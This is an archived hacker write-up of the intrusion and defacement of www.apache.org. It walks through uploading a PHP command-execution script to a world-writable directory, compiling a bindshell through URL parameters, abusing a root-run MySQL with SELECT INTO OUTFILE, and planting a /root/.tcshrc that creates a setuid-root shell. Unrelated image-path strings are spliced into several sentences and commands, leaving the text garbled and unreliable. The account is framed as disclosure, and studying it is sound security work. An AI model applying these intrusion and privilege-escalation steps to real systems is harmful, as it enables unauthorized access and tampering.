TUCoPS :: Web :: Specific Sites :: deface.txt

How we defaced www.apache.org

               How we defaced www.apache.org
                    by {} and Hardbeat

 * Before you start reading
This paper does _not_ uncover any new vulnerabilities. It points out common
(and slightly less common) configuration errors, which even the people at
apache.org made. This is a general warning. Learn from it. Fix your systems,
so we won't have to :)

 * introduction
This paper describes how, over the course of a week, we succeeded in
getting root access to the machine running www.apache.org, and changed
the main page to show a 'Powered by Microsoft BackOffice' logo instead
of the default 'Powered by Apache' logo (the feather). No other changes
were made, except to prevent other (possibly malicious) people getting in.

Note that the problems described in this paper are not apache-related,
these were all config errors (one of 'm straight from BugZilla's README,
but the README had enough warnings so I don't blame the BugZilla developers).
People running apache httpd do not need to start worrying because of
anything uncovered herein.

We hacked www.apache.org because there are a lot of servers running apache
software and if www.apache.org got compromised, somebody could backdoor
the apache server source and end up having lots of owned boxes.

We just couldn't allow this to happen, we secured the main ftproot==wwwroot
thing. While having owned root we just couldnt stand the urge to put that
small logo on it.

 * ftproot == wwwroot* o+w dirs
While searching for the laters apache httpserver to diff it the with
previous version and read that diff file for any options of new buffer
overflows, we got ourselves to ftp://ftp.apache.org. We found a mapping of
the http://www.apache.org on that ftp including world writable directories.

So we wrote a little wuh.php3 including

and uploaded that to one of the world writable directories.

 * Our commands executed
Unsurprisingly, 'id' got executed when called like


Next was to upload some bindshell and compile it like calling
http://www.apache.org/thatdir/wuh.php3?cmd=gcc+-o+httpd+httpd.c and then
executing it like calling http://www.apache.org/thatdir/wuh.php3?cmd=./httpd

 * The shell
Ofcourse we used a bindshell that first requires ppl to authenticate with
a hardcoded password (:

Now we telnet to port 65533 where we binded that shell and we have local
nobody access, because cgi is running as user nobody.

 * The apache.org box
What did we find on apache.org box:
        -o=rx /root
        -o=rx homedirs
apache.org is a freebsd 3.4 box. We didn't wanted to use any buffer
overflow or some lame exploit, goal was to reach root with only
configuration faults.

 * MysqlAfter a long search we found out that mysql was
running as user root and was reachable locally. Because apache.org was
running bugzilla which requires a mysql account and has it
username/password plaintext in the bugzilla source it was easy to
get a username/passwd for the mysql database.

We downloaded nportredird and have it set up to accept connections on
port 23306 from our ips and redir them to localhost port 3306 so we could
use our own mysql clients.

 * Full mysql access
 * use it to create files
Having gained access to port 3306 coming from localhost, using the login
'bugs' (which had full access [as in "all Y's"]), our privs where
elevated substantially. This was mostly due to sloppy reading of the BugZilla
README which _does_ show a quick way to set things up (with all Y's) but
also has lots of security warnings, including "don't run mysqld as root".

Using 'SELECT ... INTO OUTFILE;' we were now able to create files
anywhere, as root. These files were mode 666, and we could not overwrite
anything. Still, this seemed useful.

But what do you do with this ability? No use writing .rhosts files - no
sane rshd will accept a world-writable .rhosts file. Besides, rshd
wasn't running on this box.

 * our /root/.tcshrc
Therefore, we decided to perform a trojan-like trick. We used database
'test' and created a one-column table with a 80char textfield. A couple
of inserts and one select later, we had ourselves a /root/.tcshrc with
contents similar to:
      cp /bin/sh /tmp/.rootshchmod 4755 /tmp/.rootshrm -f /root/.tcshrc

 * ROOT!!
Quite trivial. Now the wait was for somebody to su -. Luckily, with 9
people legally having root, this didn't take long. The rest is trivial
too - being root the deface was quickly done, but not until after a
short report listing the vulnerabilities and quick fixes was build.
Shortly after the deface, we sent this report to one of the admins.

 * Fix that ftproot==wwwroot
Another thing we did before thedeface, was creating a file 'ftproot' in
the wwwroot (which was also ftproot), moving 'dist' to 'ftproot/dist'
and changing the ftproot to this new 'ftproot' dir, yielding the
world-writable dirs unexploitable but allowing ftp URLs to continue

 * What could have been compromised?
Remember the trojaned tcp_wrappers on ftp.win.tue.nl last year? If we
wanted to, we could have done the same thing to Apache. Edit the source
and have people download trojaned versions. Scary, eh?

 * In short:
- ftproot==webroot, worldwritable dirs allowing us to upload and execute
  php3 scripts
- mysqld running as root, with a FULL RIGHTS login without a password.

 * Compliments for the Apache admin team
We would like to compliment the Apache admin team on their swift
response when they found out about the deface, and also on their
approach, even calling us 'white hats' (we were at the most 'grey hats'
here, if you ask us).

                                         {} andHardbeat.

          {} (mailto:karin@root66.nl.eu.org) is part of
     RooT66 - http://root66.nl.eu.org
ShellOracle -http://www.shelloracle.cjb.net
        b0f -http://b0f.freebsd.lublin.pl
    Hardbeat (petervd@vuurwerk.nl) just has a lame page at

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 orbetter).
Site design& layout copyright © 1986-2024 AOH